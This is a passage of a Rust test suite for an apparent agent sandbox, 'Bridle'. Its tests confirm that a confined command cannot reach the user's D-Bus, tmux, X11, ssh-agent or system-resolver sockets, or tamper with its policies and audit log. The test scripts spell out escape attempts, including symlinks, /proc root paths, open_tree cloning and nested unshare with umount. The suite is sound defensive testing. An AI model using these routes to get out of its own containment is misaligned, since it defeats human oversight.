/// Creates `go` for a command started with [`reach_when_told`] and waits for
/// its `bridle run`.
fn tell_and_wait(guarded: Child, go: &str) -> Run {
    std::fs::write(go, "").expect("tell the command to go");
    let run = Run::from(guarded.wait_with_output().expect("bridle run"));
    let _ = std::fs::remove_file(go);
    run
}

/// `dir` as its service makes it for `nobody`, if it is missing (a session
/// makes it too; it is left in place, as a session leaves it).
fn nobodys_dir(dir: &str) {
    if !Path::new(dir).exists() {
        std::fs::create_dir_all(dir).expect("make the user's directory");
        sh(&["chown", "65534:65534", dir]);
        sh(&["chmod", "0700", dir]);
    }
}

/// The user's session services (the D-Bus session bus and systemd user
/// manager in /run/user/<uid>, tmux, the X server) run what they are sent
/// outside the session's cgroup: the agent sees its own empty copies of
/// their directories instead, by path, symlink and /proc alike, and reaches
/// only abstract sockets its own processes bound.
#[test]
fn the_agent_cannot_reach_its_users_session_services() {
    let net = TestNet::new("services");
    nobodys_dir("/run/user/65534");
    nobodys_dir("/tmp/tmux-65534");
    let tag = std::process::id();
    let bus = format!("/run/user/65534/bridle-test-{tag}.sock");
    let tmux = format!("/tmp/tmux-65534/bridle-test-{tag}");
    // Abstract names belong to a network namespace: the service's is the
    // command's, as on a desktop.
    let x11 = format!("@bridle-test-{tag}/X0");
    let service = UserService::start(&net.name, 65534, &[&bus, &tmux, &x11]);
    // A link to the bus outside any covered directory, as the agent could
    // plant one.
    let link = format!("/tmp/bridle-test-link-{tag}");
    std::os::unix::fs::symlink(&bus, &link).expect("plant a link");
    // Outside the session the service answers: the test can fail.
    assert_eq!(reach(&bus), "ran\n");
    assert_eq!(reach(&tmux), "ran\n");
    assert_eq!(reach(&link), "ran\n");
    let abstract_outside = Command::new("ip")
        .args(["netns", "exec", &net.name, "/usr/bin/python3", "-c"])
        .arg(format!(
            "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('\\0{}'); print(s.recv(8).decode(), end='')",
            &x11[1..]
        ))
        .output()
        .expect("reach the abstract socket outside the session");
    assert_eq!(String::from_utf8_lossy(&abstract_outside.stdout), "ran\n");
    let script = format!(
        "{PY_REACH}\
         print('bus=' + reach('{bus}'))\n\
         print('tmux=' + reach('{tmux}'))\n\
         print('via_proc=' + reach('/proc/{pid}/root{bus}'))\n\
         print('via_link=' + reach('{link}'))\n\
         print('x11=' + reach('\\0{x11_name}'))\n\
         mine = socket.socket(socket.AF_UNIX); mine.bind('\\0{x11_name}-own'); mine.listen(1)\n\
         other = socket.socket(socket.AF_UNIX); other.connect('\\0{x11_name}-own')\n\
         print('own_abstract=' + ('ok' if mine.accept() else 'no'))\n\
         own = '/run/user/65534/own.sock'\n\
         server = socket.socket(socket.AF_UNIX); server.bind(own); server.listen(1)\n\
         client = socket.socket(socket.AF_UNIX); client.connect(own)\n\
         server.accept()[0].sendall(b'mine')\n\
         print('own=' + client.recv(8).decode())\n\
         print('listing=' + ','.join(sorted(os.listdir('/run/user/65534'))))\n",
        pid = service.child.id(),
        x11_name = &x11[1..],
    );
    let run = net.run(&["--user", "nobody"], &["/usr/bin/python3", "-c", &script]);
    assert_eq!(run.code, 0, "{}", run.all());
    let expected = [
        ("bus", "ENOENT"),
        ("tmux", "ENOENT"),
        ("via_proc", "EACCES"),
        ("via_link", "ENOENT"),
        ("x11", "EPERM"),
        ("own_abstract", "ok"),
        ("own", "mine"),
        ("listing", "own.sock"),
    ];
    for (what, want) in expected {
        assert!(run.stdout.contains(&format!("{what}={want}\n")), "{what}: {}", run.all());
    }
    // Started from inside a covered directory, the command is in its copy:
    // a relative path does not reach under the cover either.
    let relative = format!(
        "import errno, os, socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('bridle-test-{tag}'); print('relative=' + s.recv(8).decode().strip())\nexcept OSError as e:\n    print('relative=' + errno.errorcode[e.errno])\n"
    );
    let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", &relative]);
    let run = Run::from(command.current_dir("/tmp/tmux-65534").output().expect("run nsenter"));
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(run.stdout.contains("relative=ENOENT\n"), "{}", run.all());
    // The covers were the command's alone: the host's directories hold the
    // service's sockets, and none of the command's.
    assert_eq!(reach(&bus), "ran\n");
    assert!(!Path::new("/run/user/65534/own.sock").exists());
    let _ = std::fs::remove_file(&link);
}

/// logind removes the user's runtime directory at the last logout and makes
/// it again at the next login; the session bus started then is as far out
/// of the command's reach as the one before. (As `bin`, uid 2, whom no
/// other test runs as.)
#[test]
fn a_runtime_directory_made_again_at_a_new_login_stays_out_of_reach() {
    let net = TestNet::new("relogin");
    let tag = std::process::id();
    let dir = "/run/user/2";
    if !Path::new(dir).exists() {
        std::fs::create_dir_all(dir).expect("the user's runtime directory");
        sh(&["chown", "2:2", dir]);
        sh(&["chmod", "0700", dir]);
    }
    let go = format!("/tmp/bridle-test-go-{tag}");
    let bus = format!("{dir}/bridle-test-{tag}");
    let guarded = net.started("bin", &reach_when_told(&go, "bus", &bus));
    // Logout, login: the directory goes, a new one comes, a new bus in it.
    std::fs::remove_dir_all(dir).expect("logout");
    std::fs::create_dir(dir).expect("login");
    sh(&["chown", "2:2", dir]);
    sh(&["chmod", "0700", dir]);
    let _service = UserService::start(&net.name, 2, &[&bus]);
    assert_eq!(reach(&bus), "ran\n");
    let run = tell_and_wait(guarded, &go);
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(run.stdout.contains("bus=ENOENT\n"), "{}", run.all());
}

/// A cover lasts as long as the directory under it: one removed and made
/// again on the host during the session (a service restarted with its
/// runtime directory) would be the host's new directory for the command
/// too, so the session is ended, said and audited. (As `sys`, whom no
/// other test runs as.)
#[test]
fn a_covered_directory_made_again_on_the_host_ends_the_session() {
    let net = TestNet::new("remade");
    let id = Command::new("id").args(["-u", "sys"]).output().expect("id");
    let uid = String::from_utf8_lossy(&id.stdout).trim().to_owned();
    let dir = format!("/tmp/emacs{uid}");
    let guarded = net.started("sys", "import time\ntime.sleep(30)\nprint('survived')\n");
    std::fs::remove_dir_all(&dir).expect("the session made the directory");
    std::fs::create_dir(&dir).expect("made again");
    sh(&["chown", "sys:", &dir]);
    let run = Run::from(guarded.wait_with_output().expect("bridle run"));
    assert_eq!(run.code, 128 + 9, "{}", run.all());
    assert!(!run.stdout.contains("survived"), "{}", run.all());
    let said = format!("{dir} is another directory on the host than when the session started");
    assert!(run.stderr.contains(&said), "{}", run.all());
    let audit = std::fs::read_to_string(net.audit()).expect("audit log");
    assert!(audit.lines().any(|line| line.contains("\"notice\"") && line.contains(&said)), "{audit}");
}

/// System services that look names up or connect out for whoever asks
/// (systemd-resolved's Varlink API, the system bus with `resolve1` and
/// Avahi, nscd, Avahi's own socket, snapd's socket directly in /run) would
/// send what Bridle's guard never decides. The command's /run is its own: a
/// copy of the host's, files and links kept, without a socket at any depth
/// or a link to one, and nothing a service makes during the session,
/// whether it restarts with its directory or starts late; the session goes
/// on. `/run/lock` and the directories the config names are the host's,
/// live.
#[test]
fn the_agent_cannot_have_system_services_act_for_it() {
    let net = TestNet::new("sysdns");
    let tag = std::process::id();
    let dirs = ["/run/systemd/resolve", "/run/dbus", "/run/nscd", "/run/avahi-daemon"];
    let conf = format!("/run/systemd/resolve/bridle-test-{tag}.conf");
    let host_dir = format!("/run/bridle-test-host-{tag}");
    let late_dir = format!("/run/bridle-test-late-{tag}");
    let live_dir = format!("/run/bridle-test-live-{tag}");
    let lock = format!("/run/lock/bridle-test-{tag}");
    let link = format!("/run/bridle-test-link-{tag}.sock");
    let mut planted = Planted {
        // Outermost first (`/run/systemd` too where it is missing).
        dirs: ["/run/lock"]
            .iter()
            .chain(&dirs)
            .flat_map(|dir| {
                let missing: Vec<PathBuf> =
                    Path::new(dir).ancestors().take_while(|a| !a.exists()).map(Path::to_path_buf).collect();
                missing.into_iter().rev()
            })
            .collect(),
        files: [&conf, &lock, &link].iter().map(PathBuf::from).collect(),
    };
    planted.dirs.extend([&host_dir, &late_dir, &live_dir].map(PathBuf::from));
    for dir in planted.dirs.iter().filter(|dir| **dir != Path::new(&late_dir)) {
        std::fs::create_dir_all(dir).expect("make a system service's directory");
    }
    std::fs::write(&conf, "search bridle.test\n").expect("plant a file beside the sockets");
    let mut sockets: Vec<String> = dirs.iter().map(|dir| format!("{dir}/bridle-test-{tag}")).collect();
    // Directly in /run, as snapd's is, and in /run/systemd; one in a
    // directory of no known service.
    sockets.push(format!("/run/bridle-test-{tag}.sock"));
    sockets.push(format!("/run/systemd/bridle-test-{tag}"));
    sockets.push(format!("{host_dir}/api.sock"));
    // Reachable by its own path outside /run, as a user's socket is.
    let elsewhere = format!("/tmp/bridle-test-elsewhere-{tag}");
    let live = format!("{live_dir}/api.sock");
    let paths: Vec<&str> = sockets.iter().chain([&elsewhere, &live]).map(String::as_str).collect();
    let _service = UserService::start(&net.name, 0, &paths);
    let open_to_everyone = |socket: &str| {
        std::fs::set_permissions(socket, std::fs::Permissions::from_mode(0o666)).expect("open to everyone");
    };
    paths.iter().for_each(|socket| open_to_everyone(socket));
    std::os::unix::fs::symlink(&elsewhere, &link).expect("a link in /run to a socket");
    let config = net.dir.path().join("bridle.toml");
    let mut text = std::fs::read_to_string(&config).expect("config");
    // And a live directory the host does not have: warned about, by name.
    let missing = format!("bridle-test-missing-{tag}");
    text.push_str(&format!("\n[host]\nlive_run_dirs = ['{}', '{missing}']\n", &live_dir["/run/".len()..]));
    std::fs::write(&config, text).expect("config");
    // What the command tries once told: the services there at its start,
    // one restarted with its directory and one started late, and what the
    // host writes meanwhile.
    let restarted = format!("{host_dir}/api-again.sock");
    let late = format!("{late_dir}/api.sock");
    let mut then = String::new();
    for socket in sockets.iter().chain([&link, &restarted, &late, &live]) {
        then.push_str(&format!("print('{socket}=' + reach('{socket}'))\n"));
    }
    then.push_str(&format!("print('conf=' + open('{conf}').read().strip())\n"));
    then.push_str(&format!("print('lock=' + open('{lock}').read().strip())\n"));
    // Another file system mounted below /run is not /run's to copy.
    let mounted = Mounted::tmpfs(&format!("/run/bridle-test-mnt-{tag}"));
    std::fs::write(mounted.0.join("on-the-mount"), "a file").expect("a file on the mount");
    let dir = mounted.0.display();
    then.push_str(&format!("import os\nprint('mounted=' + repr(os.listdir('{dir}')))\n"));
    // So is a bind mount there, on the same device or not.
    let source = tempfile::Builder::new().prefix("bridle-test-bind-").tempdir_in("/var/tmp").expect("a directory");
    std::fs::write(source.path().join("on-the-bind"), "a file").expect("a file to bind");
    let bound = Mounted::bind(&path(source.path()), &format!("/run/bridle-test-bind-{tag}"));
    then.push_str(&format!("print('bound=' + repr(os.listdir('{}')))\n", bound.0.display()));
    let source_file = source.path().join("a-secret");
    std::fs::write(&source_file, "bound file").expect("a file to bind");
    let bound_file = Mounted::bind_file(&path(&source_file), &format!("/run/bridle-test-bound-file-{tag}"));
    then.push_str(&format!("print('bound_file=' + repr(open('{}').read()))\n", bound_file.0.display()));
    let go = format!("/tmp/bridle-test-go-{tag}");
    let guarded = net.started("nobody", &when_told(&go, &then));
    std::fs::remove_dir_all(&host_dir).expect("a service stops");
    std::fs::create_dir(&host_dir).expect("it starts again");
    std::fs::create_dir(&late_dir).expect("a service starts");
    std::fs::write(&lock, "written on the host\n").expect("the host writes");
    let _again = UserService::start(&net.name, 0, &[&restarted, &late]);
    open_to_everyone(&restarted);
    open_to_everyone(&late);
    // Outside the session the same user reaches every one: the test can fail.
    let outside = Command::new("ip")
        .args(["netns", "exec", &net.name, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"])
        .args(["/usr/bin/python3", "-c", &format!("{PY_REACH}{then}")])
        .output()
        .expect("reach the services outside the session");
    let outside = Run::from(outside);
    let reachable = sockets.iter().filter(|socket| !socket.starts_with(&host_dir));
    for socket in reachable.chain([&link, &restarted, &late, &live]) {
        assert!(outside.stdout.contains(&format!("{socket}=ran\n")), "{socket}: {}", outside.all());
    }
    let run = tell_and_wait(guarded, &go);
    assert_eq!(run.code, 0, "{}", run.all());
    for socket in sockets.iter().chain([&link, &restarted, &late]) {
        assert!(run.stdout.contains(&format!("{socket}=ENOENT\n")), "{socket}: {}", run.all());
    }
    assert!(run.stdout.contains(&format!("{live}=ran\n")), "{}", run.all());
    // What it can still reach outside /run is named before it starts; what
    // the config let it reach is not news.
    let warning = run.stderr.lines().find(|line| line.contains("served outside the session")).unwrap_or_default();
    assert!(warning.contains(&elsewhere) && !warning.contains(&live), "{}", run.all());
    // It is in /tmp: the cheaper way out is named too.
    assert!(warning.contains("[host] private_tmp = true"), "{}", run.all());
    assert!(run.stdout.contains("mounted=[]\n") && run.stdout.contains("bound=[]\n"), "{}", run.all());
    assert!(run.stdout.contains("bound_file=''\n"), "{}", run.all());
    // Each warning the command's start said is in the audit log, too.
    let records = records(&net.audit());
    let kept = warnings_kept(&records, &session_id(&records).expect("start notice"));
    let said: Vec<&str> = run.stderr.lines().filter_map(|line| line.strip_prefix("bridle: warning: ")).collect();
    let absent = format!("/run/{missing} ([host] live_run_dirs) is not a directory");
    assert!(said.iter().any(|line| line.starts_with(&absent)), "{}", run.all());
    assert!(said.iter().any(|line| line.contains("served outside the session")), "{}", run.all());
    for line in &said {
        assert!(kept.iter().any(|message| message == line), "not audited: {line}\naudited: {kept:?}");
    }
    assert!(run.stdout.contains("conf=search bridle.test\n"), "{}", run.all());
    assert!(run.stdout.contains("lock=written on the host\n"), "{}", run.all());
    // Nothing was left out of the copy for an error, or cut at a bound.
    for warned in ["left out of the command's copy", "stops at", "copied empty", "cannot list"] {
        assert!(!run.stderr.contains(warned), "{warned}: {}", run.all());
    }
    assert!(!run.stderr.contains("another directory"), "{}", run.all());
    // The command's /run was its own: the host's holds the services.
    assert_eq!(reach(&sockets[0]), "ran\n");
}

/// A tmpfs a test mounted (on a directory it made), unmounted and
/// removed when it ends.
struct Mounted(PathBuf);

impl Mounted {
    fn tmpfs(dir: &str) -> Mounted {
        std::fs::create_dir(dir).expect("a mount point");
        let mounted = Mounted(PathBuf::from(dir));
        sh(&["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", dir]);
        mounted
    }

    /// `source` bound at `dir` too, private: what other tests mount below
    /// `source` meanwhile does not propagate into it (and keep it busy).
    fn bind(source: &str, dir: &str) -> Mounted {
        std::fs::create_dir(dir).expect("a mount point");
        let mounted = Mounted(PathBuf::from(dir));
        sh(&["mount", "--bind", source, dir]);
        sh(&["mount", "--make-private", dir]);
        mounted
    }

    /// The file `source` bound onto a new file `file`.
    fn bind_file(source: &str, file: &str) -> Mounted {
        std::fs::write(file, "").expect("a file to mount on");
        let mounted = Mounted(PathBuf::from(file));
        sh(&["mount", "--bind", source, file]);
        sh(&["mount", "--make-private", file]);
        mounted
    }
}

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("--lazy").arg(&self.0).status();
        let _ = std::fs::remove_dir(&self.0).or_else(|_| std::fs::remove_file(&self.0));
    }
}

/// Files and directories a test made in system places, removed when it
/// ends however it ends (directories only if empty by then).
struct Planted {
    dirs: Vec<PathBuf>,
    files: Vec<PathBuf>,
}

impl Drop for Planted {
    fn drop(&mut self) {
        for file in &self.files {
            let _ = std::fs::remove_file(file);
        }
        for dir in self.dirs.iter().rev() {
            let _ = std::fs::remove_dir(dir);
        }
    }
}

/// `[host] private_tmp`: the command's `/tmp` and `/var/tmp` are empty
/// ones of its own. A socket the user's other processes serve there (an
/// ssh-agent's) is out of its reach and not named as reachable, the host's
/// files there are not its, and what it leaves there is gone with the
/// session. Its `TMPDIR` in `/tmp` is made for it; the host's `/tmp`
/// mounted under another name is named; Bridle's CA bundle in `/tmp` or
/// `/var/tmp` is refused.
#[test]
fn a_private_tmp_keeps_what_the_user_serves_in_tmp_out_of_reach() {
    let net = TestNet::new("ptmp");
    let tag = std::process::id();
    let agent_dir = format!("/tmp/bridle-test-ssh-{tag}");
    let cwd = format!("/tmp/bridle-test-cwd-{tag}");
    let host_file = format!("/tmp/bridle-test-hostfile-{tag}");
    let left = format!("/tmp/bridle-test-left-{tag}");
    let var_host_file = format!("/var/tmp/bridle-test-hostfile-{tag}");
    let var_left = format!("/var/tmp/bridle-test-left-{tag}");
    let _planted = Planted {
        dirs: [&agent_dir, &cwd].map(PathBuf::from).to_vec(),
        files: [&host_file, &left, &var_host_file, &var_left].map(PathBuf::from).to_vec(),
    };
    for dir in [&agent_dir, &cwd] {
        std::fs::create_dir(dir).expect("a directory in /tmp");
    }
    // As ssh-agent makes its own: the user's, 0700.
    std::os::unix::fs::chown(&agent_dir, Some(65534), Some(65534)).expect("chown");
    std::fs::set_permissions(&agent_dir, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    std::fs::write(&host_file, "the host's\n").expect("a file in the host's /tmp");
    std::fs::write(&var_host_file, "the host's\n").expect("a file in the host's /var/tmp");
    let socket = format!("{agent_dir}/agent.sock");
    let _agent = UserService::start(&net.name, 65534, &[&socket]);
    // Outside the session the same user reaches it: the test can fail.
    let outside = Command::new("ip")
        .args(["netns", "exec", &net.name, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"])
        .args(["/usr/bin/python3", "-c", &format!("{PY_REACH}print(reach('{socket}'))")])
        .output()
        .expect("reach the agent outside the session");
    assert_eq!(String::from_utf8_lossy(&outside.stdout), "ran\n");
    let config = net.dir.path().join("bridle.toml");
    let mut text = std::fs::read_to_string(&config).expect("config");
    text.push_str("\n[host]\nprivate_tmp = true\n\n[env]\nforward = ['PATH', 'TMPDIR']\n");
    let ca_line = format!("ca_dir = \"{}\"", net.dir.path().join("ca").display());
    assert!(text.contains(&ca_line), "{text}");
    let with_ca = |dir: &Path| text.replace(&ca_line, &format!("ca_dir = \"{}\"", dir.display()));
    // Bridle's CA bundle in /tmp or /var/tmp would be out of the
    // command's sight too.
    for hidden in ["/tmp", "/var/tmp"] {
        let in_tmp = tempfile::Builder::new().prefix("bridle-test-ca-").tempdir_in(hidden).expect("a CA directory");
        std::fs::write(&config, with_ca(in_tmp.path())).expect("config");
        let refused = net.run(&["--user", "nobody"], &["true"]);
        assert_ne!(refused.code, 0, "{}", refused.all());
        let why = format!("is in {hidden}, which [host] private_tmp hides from the command");
        assert!(refused.stderr.contains(&why), "{}", refused.all());
    }
    let ca = tempfile::Builder::new().prefix("bridle-test-ca-").tempdir_in("/var/lib").expect("a CA directory");
    std::fs::write(&config, with_ca(ca.path())).expect("config");
    // A TMPDIR in /tmp (as libpam-tmpdir sets it) is made in the new one.
    let tmpdir = format!("/tmp/user/{tag}");
    // The host's /tmp under another name is not covered: it is named. (One
    // under /run is: the command's /run is a copy.)
    let bound = Mounted::bind("/tmp", &format!("/mnt/bridle-test-tmp-{tag}"));
    let _covered = Mounted::bind(&cwd, &format!("/run/bridle-test-tmp-{tag}"));
    let script = format!(
        "{PY_REACH}print('agent=' + reach('{socket}'))\n\
         print('host_file=' + str(os.path.exists('{host_file}')))\n\
         open('{left}', 'w').write('left behind')\n\
         print('tmp=' + repr(sorted(os.listdir('/tmp'))))\n\
         print('mode=' + oct(os.stat('/tmp').st_mode & 0o7777))\n\
         print('var_host_file=' + str(os.path.exists('{var_host_file}')))\n\
         open('{var_left}', 'w').write('left behind')\n\
         print('var_tmp=' + repr(os.listdir('/var/tmp')) + ' ' + oct(os.stat('/var/tmp').st_mode & 0o7777))\n\
         print('cwd=' + os.getcwd())\n\
         import tempfile\n\
         made = os.path.dirname(tempfile.mkstemp()[1])\n\
         print('tmpdir=' + made + ' ' + oct(os.stat(made).st_mode & 0o777) + ' ' + str(os.stat(made).st_uid))\n"
    );
    let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", &script]);
    let run = Run::from(command.current_dir(&cwd).env("TMPDIR", &tmpdir).output().expect("bridle run"));
    assert_eq!(run.code, 0, "{}", run.all());
    let expected = format!(
        "agent=ENOENT\nhost_file=False\ntmp=['bridle-test-left-{tag}', 'user']\nmode=0o1777\nvar_host_file=False\n\
         var_tmp=['bridle-test-left-{tag}'] 0o1777\ncwd=/\ntmpdir={tmpdir} 0o700 65534\n"
    );
    assert_eq!(run.stdout, expected, "{}", run.all());
    let moved = format!("the working directory {cwd} is covered from the command; it starts in /");
    assert!(run.stderr.contains(&moved), "{}", run.all());
    assert!(!run.stderr.contains(&socket), "not named as reachable: {}", run.all());
    let elsewhere = format!("{} holds the host's /tmp under another name", bound.0.display());
    assert!(run.stderr.contains(&elsewhere), "{}", run.all());
    assert!(!run.stderr.contains("/run/bridle-test-tmp"), "{}", run.all());
    assert!(!Path::new(&left).exists(), "what the command left in its /tmp outlived the session");
    assert!(!Path::new(&var_left).exists(), "what the command left in its /var/tmp outlived the session");
    assert!(Path::new(&var_host_file).exists(), "the host's /var/tmp was touched");
}

/// A directory of `nobody`'s in /var/tmp (named `prefix…`), and an ssh
/// `ControlPath` in it.
fn control_path(prefix: &str) -> (tempfile::TempDir, String) {
    let dir = tempfile::Builder::new().prefix(prefix).tempdir_in("/var/tmp").expect("a directory");
    std::os::unix::fs::chown(dir.path(), Some(65534), Some(65534)).expect("chown");
    let master = format!("{}/cm-git@host:22", dir.path().display());
    (dir, master)
}

/// `[host] cover_sockets`: the sockets the user serves outside `/run`
/// that the command could open (an ssh `ControlMaster`'s in a directory of
/// the user's, an agent's in `/tmp`) are covered in its view: a connect to
/// them, or to a symlink that leads there, is refused, and they are named
/// as covered, not as reachable. The host's own view is untouched.
#[test]
fn cover_sockets_puts_the_users_own_sockets_out_of_reach() {
    let net = TestNet::new("cover");
    let tag = std::process::id();
    let (_dir, master) = control_path("bridle-test-cm-");
    let in_tmp = format!("/tmp/bridle-test-cover-{tag}.sock");
    let link = format!("/var/tmp/bridle-test-cover-link-{tag}");
    let _planted = Planted { dirs: Vec::new(), files: vec![PathBuf::from(&link)] };
    std::os::unix::fs::symlink(&master, &link).expect("a link to the socket");
    // As ssh makes a ControlMaster's: bound under a temporary name, linked
    // to the ControlPath, the first name removed (so the kernel's table
    // names a file that is gone).
    let bound = format!("{master}.Xq3fT2bZ");
    let _service = UserService::start(&net.name, 65534, &[&bound, &in_tmp]);
    std::fs::hard_link(&bound, &master).expect("link the ControlPath");
    std::fs::remove_file(&bound).expect("remove the temporary name");
    let script = format!("{PY_REACH}for p in ['{master}', '{in_tmp}', '{link}']:\n    print(reach(p))\n");
    let outside = || {
        let output = Command::new("ip")
            .args(["netns", "exec", &net.name, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"])
            .args(["/usr/bin/python3", "-c", &script])
            .output()
            .expect("reach the sockets outside the session");
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    // Outside the session the same user reaches them: the test can fail.
    assert_eq!(outside(), "ran\nran\nran\n");
    net.set_host("cover_sockets = true");
    let run = net.run(&["--user", "nobody"], &["/usr/bin/python3", "-c", &script]);
    assert_eq!(run.code, 0, "{}", run.all());
    assert_eq!(run.stdout, "ECONNREFUSED\nECONNREFUSED\nECONNREFUSED\n", "{}", run.all());
    let covered = run.stderr.lines().find(|line| line.contains("are covered for the command")).unwrap_or_default();
    assert!(covered.contains(&master) && covered.contains(&in_tmp), "{}", run.all());
    assert!(!run.stderr.contains("what serves them acts for it"), "none is left reachable: {}", run.all());
    assert_eq!(outside(), "ran\nran\nran\n", "the host's view is untouched");
}

/// `[host] cover_sockets` covers a socket served after the command
/// started too (an ssh `ControlMaster` opened meanwhile), and one served
/// again at a covered path (a new master after the old one exited: the old
/// cover went with the old file): a period of the session's watch later a
/// connect to it is refused, and it is named as covered, on stderr and in
/// the audit log. The cover reaches a mount namespace the command made
/// itself before (`unshare -Urm`), which cannot unmount it; the command's
/// own socket stays its own, though it sits beside a master whose first
/// name is gone. The host's view is untouched.
#[test]
fn cover_sockets_covers_sockets_served_after_the_command_started() {
    let net = TestNet::new("coverlate");
    let tag = std::process::id();
    let (dir, master) = control_path("bridle-test-cmlate-");
    let step = |name: &str| format!("/tmp/bridle-test-{name}-{tag}");
    // The command's own socket sits beside the master's: only the master's
    // file is taken for the master once its first name is gone.
    let own = format!("{}/own.sock", dir.path().display());
    let files = [step("ready-again"), step("go"), step("go-again"), own, step("nested.py")];
    let _planted = Planted { dirs: Vec::new(), files: files.iter().map(PathBuf::from).collect() };
    let [ready_again, go, go_again, own, nested] = files;
    net.set_host("cover_sockets = true");
    let nested_script = when_told(
        &go_again,
        &format!(
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n\
             clone = libc.syscall(428, -100, b'{dir}', 0x8001)\n\
             print('open_tree=' + ('EPERM' if clone < 0 and ctypes.get_errno() == 1 else str(clone)))\n\
             time.sleep(1.5)\nos.system('umount {master} 2>/dev/null')\nprint('nested=' + reach('{master}'))\n",
            dir = dir.path().display()
        ),
    );
    std::fs::write(&nested, nested_script).expect("the nested namespace's script");
    // It serves a socket of its own and makes a namespace of its own; told
    // the socket is served, it waits a period of the watch (250 ms) and
    // more, and reaches for it; then says so, and again.
    let script = format!(
        "import subprocess\nown = socket.socket(socket.AF_UNIX)\nown.bind('{own}')\nown.listen(8)\n\
         nested = subprocess.Popen(['unshare', '-Urm', '--propagation', 'unchanged', '/usr/bin/python3', '{nested}'], \
         stdout=subprocess.PIPE)\n{}",
        when_told(
            &go,
            &format!(
                "time.sleep(1.5)\nprint('late=' + reach('{master}'))\nopen('{ready_again}', 'w').close()\n{}",
                when_told(
                    &go_again,
                    &format!(
                        "time.sleep(1.5)\nprint('again=' + reach('{master}'))\nmine = socket.socket(socket.AF_UNIX)\n\
                         mine.connect('{own}')\nprint('own=connected')\nprint(nested.communicate()[0].decode().strip())\n"
                    )
                )
            )
        )
    );
    let guarded = net.started("nobody", &format!("{PY_REACH}{script}"));
    // Served as ssh serves a ControlMaster: bound under a temporary name,
    // linked to the ControlPath, the first name removed.
    let bound = format!("{master}.Xq3fT2bZ");
    let service = UserService::start(&net.name, 65534, &[&bound]);
    std::fs::hard_link(&bound, &master).expect("link the ControlPath");
    std::fs::remove_file(&bound).expect("remove the temporary name");
    assert_eq!(reach(&master), "ran\n", "outside the session it is reached: the test can fail");
    std::fs::write(&go, "").expect("tell the command");
    let there = (0..200).any(|_| {
        std::thread::sleep(Duration::from_millis(50));
        Path::new(&ready_again).exists()
    });
    assert!(there, "the command did not reach the second step");
    // The master exits and a new one binds the same path.
    drop(service);
    std::fs::remove_file(&master).expect("the old master's file");
    let _service = UserService::start(&net.name, 65534, &[&master]);
    let run = tell_and_wait(guarded, &go_again);
    assert_eq!(run.code, 0, "{}", run.all());
    // It cannot clone the directory to keep a copy that later covers miss
    // (`open_tree(OPEN_TREE_CLONE | AT_RECURSIVE)`).
    let expected = "late=ECONNREFUSED\nagain=ECONNREFUSED\nown=connected\nopen_tree=EPERM\nnested=ECONNREFUSED\n";
    assert_eq!(run.stdout, expected, "{}", run.all());
    let said = "socket(s) served outside the session since it started are covered for the command";
    // Twice at least: the master, then the one served again (once more
    // if a look fell between the first master's bind and its link).
    let covered: Vec<&str> = run.stderr.lines().filter(|line| line.contains(said)).collect();
    assert!(covered.len() >= 2, "{}", run.all());
    assert!(covered.iter().all(|line| line.contains(&master) && !line.contains(&own)), "{}", run.all());
    let records = records(&net.audit());
    let id = session_id(&records).expect("start notice");
    let kept = warnings_kept(&records, &id);
    assert_eq!(
        kept.iter().filter(|kept| kept.contains(said) && kept.contains(&master)).count(),
        covered.len(),
        "{kept:?}"
    );
    assert_eq!(reach(&master), "ran\n", "the host's view is untouched");
}

/// A service the user starts after the session did, in a directory that
/// did not exist before it, binds under the session's cover all the same:
/// the session made the directory on the host, as the service would have.
/// (As `daemon`, uid 1, whom no other test runs as: the directory must be
/// missing when the session starts.)
#[test]
fn a_service_started_after_the_session_is_out_of_its_reach_too() {
    let net = TestNet::new("late");
    let tag = std::process::id();
    let dir = "/tmp/tmux-1";
    let _ = std::fs::remove_dir_all(dir);
    let go = format!("/tmp/bridle-test-go-{tag}");
    let late = format!("{dir}/late-{tag}");
    let script = reach_when_told(&go, "late", &late);
    let guarded = net
        .command(&["--user", "daemon"], &["/usr/bin/python3", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start bridle run");
    let made = (0..200).any(|_| {
        std::thread::sleep(Duration::from_millis(50));
        Path::new(dir).exists()
    });
    assert!(made, "the session did not make {dir}");
    let meta = std::fs::symlink_metadata(dir).expect("made");
    use std::os::unix::fs::MetadataExt as _;
    assert_eq!((meta.is_dir(), meta.uid(), meta.mode() & 0o7777), (true, 1, 0o700));
    let _service = UserService::start(&net.name, 1, &[&late]);
    assert_eq!(reach(&late), "ran\n");
    let run = tell_and_wait(guarded, &go);
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(run.stdout.contains("late=ENOENT\n"), "{}", run.all());
}

/// Policies the command itself could rewrite are no guard, nor an audit
/// log it could replace: Bridle refuses to start, naming what the command
/// could change and how.
#[test]
fn policies_or_a_config_the_agent_could_rewrite_are_refused() {
    let net = TestNet::new("tamper");
    let policies = net.dir.path().join("pol");
    let _ = Command::new("chown").args(["-R", "nobody"]).arg(&policies).status();
    let run = net.run(&["--user", "nobody"], &["true"]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("the policy directory") && run.stderr.contains("owned by uid 65534"), "{}", run.all());
    let _ = Command::new("chown").args(["-R", "root"]).arg(&policies).status();

    let config = net.dir.path().join("bridle.toml");
    let _ = Command::new("chmod").arg("666").arg(&config).status();
    let run = net.run(&["--user", "nobody"], &["true"]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("the config") && run.stderr.contains("writable by everyone"), "{}", run.all());
    let _ = Command::new("chmod").arg("644").arg(&config).status();

    // Root writes the audit log: one the command could replace (or link
    // elsewhere) would be forged, or written through.
    std::fs::write(net.audit(), "").expect("an audit log");
